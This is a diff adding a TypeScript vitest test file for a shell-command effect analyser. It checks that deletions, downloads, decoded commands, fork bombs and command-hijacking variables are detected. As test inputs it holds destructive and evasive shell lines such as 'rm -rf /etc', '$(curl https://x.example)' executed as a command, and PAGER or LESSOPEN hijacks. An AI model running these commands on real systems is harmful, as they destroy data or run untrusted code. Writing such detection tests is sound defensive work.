@@ -1,0 +1,384 @@
+import { describe, expect, test } from 'vitest'
+import { effectLines } from '../../testing/effect-lines.ts'
+
+type Row = readonly [name: string, commandLine: string, expected: readonly string[]]
+
+const machine = {
+  folders: ['/w/src'],
+  files: {
+    '/w/node_modules/.bin/vitest': '',
+    '/w/bin/rails': '#!/usr/bin/env ruby\nsystem("rm -rf /etc")\n',
+    '/w/list.txt': 'a',
+    '/w/package.json':
+      '{"devDependencies":{"foo":"1"},"scripts":{"a":"foo","b":"foo --push","c":"foo /etc","d":"foo --out=/etc","e":"foo http://localhost:1","f":"foo http://x.example","g":"foo src"}}',
+  },
+}
+
+describe('lists', () => {
+  test.each<Row>([
+    ['either after or', 'cd /etc || cd src; rm x', ['delete /etc/x', 'delete src/x']],
+    ['or after and', 'cd nowhere && rm a || rm b', ['delete nowhere/a', 'delete b', 'delete nowhere/b']],
+    ['and after or', 'cd nowhere || cd src && rm x', ['delete nowhere/x', 'delete src/x']],
+    ['what a failed branch left', 'cd nowhere && X=a || X=/etc; rm $X', ['delete nowhere/a', 'delete /etc']],
+    ['three in a row', 'cd src && cd nowhere || rm x', ['delete src/x']],
+    ['a background job keeps its folder to itself', 'cd src & rm x; kill $!', ['delete x', 'process:own $!']],
+    ['a job of nobody', 'kill $!', ['process:own $!']],
+    ['in a group that may fail', '{ cd nowhere; } || rm x', ['delete nowhere/x', 'delete x']],
+    ['a redirected group that may fail', '{ cd nowhere; } > log || rm x', ['write log', 'delete nowhere/x', 'delete x']],
+    ['from several states', 'if true; then cd src; else cd /etc; fi; cd nowhere || rm x', ['delete src/x', 'delete /etc/x', 'delete x']],
+    ['a coprocess', 'coproc { cd src; rm x; }; rm y', ['delete src/x', 'delete y']],
+    ['a coprocess that is one command', 'coproc rm x', ['delete x']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('arithmetic', () => {
+  test.each<Row>([
+    ['an assigned variable holds a number', 'i=/etc; ((i=1)); rm $i', ['delete [0-9]*']],
+    ['an increased one', 'i=/etc; ((i++)); rm log.$i', ['delete log.[0-9]*']],
+    ['increased in front', 'i=/etc; ((++i)); rm log.$i', ['delete log.[0-9]*']],
+    ['added to', 'i=/etc; ((i+=2)); rm log.$i', ['delete log.[0-9]*']],
+    ['in parentheses', 'i=/etc; (((i=1))); rm log.$i', ['delete log.[0-9]*']],
+    ['two of them', 'i=/etc; j=/usr; ((i=1, j=2)); rm log.$i log.$j', ['delete log.[0-9]*']],
+    ['only compared', 'i=/etc; ((i==1)); rm $i', ['delete /etc']],
+    ['only negated', 'i=/etc; ((-i)); rm $i', ['delete /etc']],
+    ['a counted loop', 'for ((i=0; i<3; i++)); do rm log.$i; done', ['delete log.[0-9]*']],
+    [
+      'a counted loop that runs something',
+      'for ((i=0; i<3; i++)); do rm a; cd src; done; rm b',
+      [
+        'delete a',
+        'delete src/a',
+        'unknown: deletes `a (working directory unknown)`, a path only known at run time',
+        'delete b',
+        'delete src/b',
+        'delete src/src/b',
+        'unknown: deletes `b (working directory unknown)`, a path only known at run time',
+      ],
+    ],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('tests', () => {
+  test.each<Row>([
+    ['each side', '[[ $(rm a) == $(rm b) && ! -f $(rm c) || ( -d $(rm d) ) ]]', ['delete a', 'delete b', 'delete c', 'delete d']],
+    ['a subscript', "[[ -v 'a[$(rm b)]' ]]", ['delete b']],
+    ['a reference', "[[ -R 'a[$(rm b)]' ]]", ['delete b']],
+    ['another test of a name', "[[ -f 'a[$(rm b)]' ]]", []],
+    ['numbers', "[[ 'a[$(rm b)]' -eq 1 ]]", ['delete b']],
+    ['texts', "[[ 'a[$(rm b)]' == 1 ]]", []],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('loops', () => {
+  test.each<Row>([
+    [
+      'over what is not known',
+      'for f; do rm "$f"; done',
+      ['unknown: a word that is only known at run time could be an option', 'unknown: deletes `$@`, a path only known at run time'],
+    ],
+    ['over nothing', 'for f in; do rm a; done; rm b', ['delete b']],
+    ['over many', 'for f in {1..24}; do :; done; rm log.$f', ['delete log.24']],
+    ['over too many', 'for f in {1..25}; do rm "$f"; done', ['delete [0-9]*']],
+    ['a body that changes the folder', 'for f in a b; do cd src; rm $f; done', ['delete src/a', 'delete src/src/b', 'delete src/b']],
+    [
+      'while',
+      'while read x; do cd src; rm a; done < list.txt',
+      [
+        'read list.txt',
+        'delete src/a',
+        'delete src/src/a',
+        'unknown: deletes `a (working directory unknown)`, a path only known at run time',
+      ],
+    ],
+    [
+      'until',
+      'until cd src; do rm a; done',
+      ['delete src/a', 'delete src/src/a', 'unknown: deletes `a (working directory unknown)`, a path only known at run time'],
+    ],
+    ['select', 'select f in a b; do rm $f; done', ['delete a', 'delete b']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('assignments in front', () => {
+  test.each<Row>([
+    ['hold for one command', "X=a; X=/etc eval 'rm $X'; rm $X", ['delete /etc', 'delete a']],
+    ['what the command itself assigns stays', "X=a; X=b eval 'Y=/etc'; rm $X $Y", ['delete a', 'delete /etc', 'delete b']],
+    [
+      'nothing held before',
+      "X=b eval 'Y=/etc'; rm x$X $Y",
+      ['delete x', 'unknown: deletes `x$X`, a path only known at run time', 'delete /etc', 'delete xb'],
+    ],
+    ['over what eval assigns', "X=a; X=b eval 'X=/etc'; rm $X", ['delete /etc']],
+    ['of an alias', 'alias X=1; rm a', ['delete a']],
+    [
+      'the text of a file',
+      'rm $(< list.txt)',
+      [
+        'read list.txt',
+        'unknown: a word that is only known at run time could be an option',
+        'unknown: deletes `$(< list.txt)`, a path only known at run time',
+      ],
+    ],
+    [
+      'the text of a file, in a variable',
+      'X=$(< list.txt); rm $X',
+      [
+        'read list.txt',
+        'unknown: a word that is only known at run time could be an option',
+        'unknown: deletes `$(< list.txt)`, a path only known at run time',
+      ],
+    ],
+    ['an empty redirection', '> new.txt; rm a', ['write new.txt', 'delete a']],
+    [
+      'redirections of exec stay',
+      'exec < list.txt; xargs rm',
+      [
+        'read list.txt',
+        'unknown: a word that is only known at run time could be an option',
+        'unknown: deletes `(standard input)`, a path only known at run time',
+      ],
+    ],
+    ['redirections of others do not', 'cat < list.txt; xargs rm', ['read list.txt']],
+    ['the input of a shell', 'exec <<< /etc; xargs rm', ['delete /etc']],
+    ['in a group', 'exec <<< /etc; { xargs rm; }', ['delete /etc']],
+    ['another input in a pipe', 'exec <<< /etc; echo b | xargs rm', ['delete b']],
+    ['another input of the command', 'exec <<< /etc; xargs rm <<< b', ['delete b']],
+    ['another input of the shell', 'exec <<< /etc; exec <<< b; xargs rm', ['delete b']],
+    ['the first of a pipe', 'exec <<< /etc; cat | xargs rm', ['delete /etc']],
+    [
+      'the output of a shell',
+      "exec > x.sh; echo 'rm -rf /etc'; sh x.sh",
+      ['write x.sh', 'unknown: runs `x.sh`, which this line makes in a way that is not followed'],
+    ],
+    ['the output of a shell into a shell', "exec > >(sh); echo 'rm -rf /etc'", ['unknown: runs text from standard input as shell']],
+    ['exec with a command', 'exec ls > new.txt; echo a', ['write new.txt', 'read:names .']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('declarations', () => {
+  test.each<Row>([
+    ['a number', "declare -i 'x=a[$(rm b)]'", ['delete b']],
+    ['a number, assigned later', "declare -i x; x='a[$(rm b)]'", ['delete b']],
+    ['a number, assigned twice', "declare -i x; x=1; x='a[$(rm b)]'", ['delete b']],
+    ['no number', "declare 'x=a[$(rm b)]'", []],
+    ['an array', 'a=(x /etc); rm "${a[1]}"', ['delete /etc', 'delete x']],
+    ['added to an array', 'a=(x); a+=(/etc); rm "${a[@]}"', ['delete x', 'delete /etc']],
+    ['an element', 'a[1]=/etc; rm -- "${a[1]}"', ['delete /etc', 'unknown: deletes `${a[1]}`, a path only known at run time']],
+    ['an element among others', 'a=(x y); a[0]=/etc; rm "${a[@]}"', ['delete /etc', 'delete y']],
+    [
+      'past the end',
+      'a=(x); a[2]=/etc; rm -- "${a[2]}"',
+      ['delete x', 'delete /etc', 'unknown: deletes `${a[2]}`, a path only known at run time'],
+    ],
+    ['an element far away', 'a[100]=/etc; rm "${a[@]}"', ['delete /etc']],
+    ['an element by name', 'a[key]=/etc; rm "${a[@]}"', ['delete /etc']],
+    ['a negative element', 'a=(x); a[-1]=/etc; rm "${a[@]}"', ['delete x', 'delete /etc']],
+    ['added to an element', 'X=/e; X+=tc; rm $X', ['delete /etc']],
+    ['added to nothing', 'X+=/etc; rm -rf "$X"', ['delete /etc']],
+    ['a subscript runs', 'a[$(rm b)]=1', ['delete b']],
+    ['braces in an assignment', 'X={a,/etc}; rm $X', ['delete {a,/etc}']],
+    ['braces in a declaration', 'declare X={a,/etc}; rm $X', ['delete /etc']],
+    ['local outside a function', 'local X=/etc; rm x$X', ['delete x', 'unknown: deletes `x$X`, a path only known at run time']],
+    ['export keeps an array', 'export a=(x /etc); rm "${a[@]}"', ['delete x', 'delete /etc']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('names of commands', () => {
+  test.each<Row>([
+    ['nothing', '"" a; rm b', ['delete b']],
+    [
+      'only known at run time',
+      '$X a; rm b',
+      ['unknown: runs `$X`, a command only known at run time', 'unknown: program `a` is not described', 'delete b'],
+    ],
+    [
+      'half known',
+      '/bin/$X a',
+      ['unknown: runs `/bin/$X`, a command only known at run time', 'unknown: runs `/bin`, which is not part of the workspace'],
+    ],
+    ['the rest of it', 'rm$X -rf /etc', ['unknown: runs `rm$X`, a command only known at run time', 'delete /etc']],
+    [
+      'downloaded',
+      '$(curl https://x.example) a',
+      [
+        'connect:get https://x.example',
+        'unknown: runs `$(curl https://x.example)`, a command only known at run time',
+        'execute:download $(curl https://x.example)',
+      ],
+    ],
+    [
+      'decoded',
+      '$(echo cm0= | base64 -d) a',
+      ['delete a', 'unknown: runs `(decoded text)`, a command only known at run time', 'execute:decoded (decoded text)'],
+    ],
+    ['a pattern', '/bin/r? -rf /etc', ['unknown: runs `/bin/r?`, a command only known at run time', 'delete /etc']],
+    ['a pattern with a star', '/bin/r* -rf /etc', ['unknown: runs `/bin/r*`, a command only known at run time', 'delete /etc']],
+    ['a pattern of nothing often meant', '/bin/xyz* -rf /etc', ['unknown: runs `/bin/xyz*`, a command only known at run time']],
+    ['a pattern with brackets', '/bin/[r]m -rf /etc', ['unknown: runs `/bin/[r]m`, a command only known at run time', 'delete /etc']],
+    ['in capitals, with text', 'echo a | XARGS rm', ['delete a', 'unknown: program `XARGS` is not described']],
+    ['whose version is asked', 'frobnicate --version', []],
+    ['whose help is asked', 'frobnicate --help', []],
+    ['asked and more', 'frobnicate --help x', ['unknown: program `frobnicate` is not described']],
+    ['another option', 'frobnicate --helpx', ['unknown: program `frobnicate` is not described']],
+    ['found by a function', 'command_not_found_handle() { rm "$@"; }; frobnicate a', ['delete frobnicate', 'delete a']],
+    ['of the home', '~/.local/bin/rm -rf /etc', ['delete /etc']],
+    [
+      'of another folder of the home',
+      '~/stuff/rm -rf /etc',
+      ['read /etc', 'unknown: runs `~/stuff/rm`, which is not part of the workspace'],
+    ],
+    ['of the project', 'node_modules/.bin/vitest run', ['execute:project tests']],
+    ['of the project, by its whole path', '/w/node_modules/.bin/vitest run', ['execute:project tests']],
+    [
+      'of another project',
+      '/opt/node_modules/.bin/vitest run',
+      ['unknown: runs `/opt/node_modules/.bin/vitest`, which is not part of the workspace'],
+    ],
+    [
+      'written in this line',
+      "echo 'rm a' > node_modules/.bin/vitest; node_modules/.bin/vitest run",
+      ['write node_modules/.bin/vitest', 'execute:project node_modules/.bin/vitest', 'delete a'],
+    ],
+    ['a file of the project with a known name', 'bin/rails routes', ['execute:project rails', 'delete /etc', 'execute:project Rakefile']],
+    [
+      'copied from two',
+      'cat /bin/rm /bin/ls > x; ./x -rf /etc',
+      ['write x', 'read /bin/rm', 'read /bin/ls', 'read /etc', 'unknown: runs `x`, which this line makes in a way that is not followed'],
+    ],
+    ['told to deploy', 'make deploy', ['execute:project Makefile deploy (no manifest)']],
+    ['told to deploy, by an option', 'jest --deploy', ['unknown: option `--deploy` of `jest` is not described', 'execute:project tests']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('functions and aliases', () => {
+  test.each<Row>([
+    ['a function that calls itself', 'f() { f; }; f', ['process:fork-bomb `f` calls itself without end']],
+    ['a function that calls itself through another', 'f() { g; }; g() { f; }; f', ['process:fork-bomb `f` calls itself without end']],
+    ['a function called twice', 'f() { rm "$1"; }; f a; f b', ['delete a', 'delete b']],
+    ['one function calls another', 'f() { g a; }; g() { rm "$1"; }; f', ['delete a']],
+    ['an alias with words', "alias x='rm -rf'; x /etc", ['delete /etc']],
+    ['an alias of itself', "alias rm='rm -i'; rm a", ['delete a']],
+    ['an alias that uses another', "alias x=y; alias y='rm a'; x", ['delete a']],
+    ['a function with a file of its own', 'f() { rm a; } > log; f', ['write log', 'delete a']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('variables that hold a command', () => {
+  test.each<Row>([
+    ['a prompt', "PS1='$(rm a)'; ls", ['unknown: `PS1` changes what runs', 'delete a', 'read:names .']],
+    [
+      'a file read first',
+      'export BASH_ENV=list.sh; ls',
+      ['unknown: `BASH_ENV` changes what runs', 'unknown: runs `list.sh`, which is not there yet', 'read:names .'],
+    ],
+    ['a pager', "PAGER='rm a'; ls", ['unknown: `PAGER` changes what runs', 'delete a', 'read:names .']],
+    ['a preprocessor', "export LESSOPEN='|rm %s'; ls", ['unknown: `LESSOPEN` changes what runs', 'delete %s', 'read:names .']],
+    [
+      'a preprocessor that is asked',
+      "export LESSOPEN='|-rm %s'; ls",
+      ['unknown: `LESSOPEN` changes what runs', 'unknown: program `-rm` is not described', 'read:names .'],
+    ],
+    ['looked at once', "export PAGER='rm a'; ls; ls", ['unknown: `PAGER` changes what runs', 'delete a', 'read:names .']],
+    ['handed on as it was', 'export PAGER; ls', ['read:names .']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('programs of the project in its scripts', () => {
+  test.each<Row>([
+    ['declared', 'npm run a', ['execute:project package.json a', 'execute:project foo (declared dependency)']],
+    ['told to push', 'npm run b', ['execute:project package.json b', 'unknown: program `foo` is not described']],
+    ['given a path outside', 'npm run c', ['execute:project package.json c', 'unknown: program `foo` is not described']],
+    ['given a path outside by option', 'npm run d', ['execute:project package.json d', 'unknown: program `foo` is not described']],
+    ['given a place here', 'npm run e', ['execute:project package.json e', 'execute:project foo (declared dependency)']],
+    ['given a place elsewhere', 'npm run f', ['execute:project package.json f', 'unknown: program `foo` is not described']],
+    ['given a path inside', 'npm run g', ['execute:project package.json g', 'execute:project foo (declared dependency)']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('declarations that carry on', () => {
+  test.each<Row>([
+    [
+      'exported at once',
+      'export GIT_SSH_COMMAND=x',
+      ['unknown: `GIT_SSH_COMMAND` changes what runs', 'unknown: program `x` is not described'],
+    ],
+    [
+      'exported by declare at once',
+      'declare -x GIT_SSH_COMMAND=x',
+      ['unknown: `GIT_SSH_COMMAND` changes what runs', 'unknown: program `x` is not described'],
+    ],
+    ['not exported', 'declare GIT_SSH_COMMAND=x', []],
+    ['readonly at once', 'readonly X=a; X=/etc; rm $X', ['delete a']],
+    ['typeset is local', 'f() { typeset X=/etc; }; X=a; f; rm $X', ['delete a']],
+    ['typeset -g is not', 'f() { typeset -g X=/etc; }; X=a; f; rm $X', ['delete /etc']],
+    ['a number at once', "declare -i x='a[$(rm b)]'", ['delete b']],
+    ['a number among other letters', "declare -xi x='a[$(rm b)]'", ['delete b']],
+    ['an alias is no variable', 'alias X=/etc; rm x$X', ['delete x', 'unknown: deletes `x$X`, a path only known at run time']],
+    [
+      'two lists of words',
+      'rm ${X:-a} ${Y:-b}',
+      [
+        'delete a',
+        'delete b',
+        'unknown: a word that is only known at run time could be an option',
+        'unknown: deletes `$Y`, a path only known at run time',
+        'unknown: deletes `$X`, a path only known at run time',
+      ],
+    ],
+    ['the text of two files', 'rm $(< list.txt < gone.txt)', ['read list.txt', 'read gone.txt']],
+    ['text with an assignment', 'rm $(X=1 < list.txt)', ['read list.txt']],
+    ['what is written is not printed', 'rm x$(> list.txt)', ['write list.txt', 'delete x']],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
+
+describe('functions of one command', () => {
+  test.each<Row>([
+    ['a subshell', 'f() (cd src; rm a); f; rm b', ['delete src/a', 'delete b']],
+    ['a test', 'f() [[ -f $(rm a) ]]; f', ['delete a']],
+    ['a loop', 'f() for i in a b; do rm $i; done; f', ['delete a', 'delete b']],
+    ['a group that fails', 'f() { cd nowhere; }; f || rm x', ['delete nowhere/x', 'delete x']],
+    [
+      'a group that fails, redirected',
+      '{ cd nowhere; } 2> log && rm a || rm b',
+      ['write log', 'delete nowhere/a', 'delete a', 'delete nowhere/b', 'delete b'],
+    ],
+    [
+      'many states',
+      'if true; then cd a; elif true; then cd b; elif true; then cd c; elif true; then cd d; elif true; then cd e; elif true; then cd f; elif true; then cd g; elif true; then cd h; elif true; then cd i; elif true; then cd j; elif true; then cd k; elif true; then cd l; elif true; then cd m; elif true; then cd n; elif true; then cd o; else cd p; fi; rm x',
+      ['unknown: deletes `x (working directory unknown)`, a path only known at run time'],
+    ],
+    [
+      'too many states',
+      'for i in 1 2 3 4 5 6 7 8 9; do cd "d$i" && X=$i; done; rm "$X"',
+      [
+        'unknown: deletes `9 (working directory unknown)`, a path only known at run time',
+        'unknown: a word that is only known at run time could be an option',
+        'unknown: deletes `$X`, a path only known at run time',
+      ],
+    ],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine, machine)).toEqual(expected)
+  })
+})
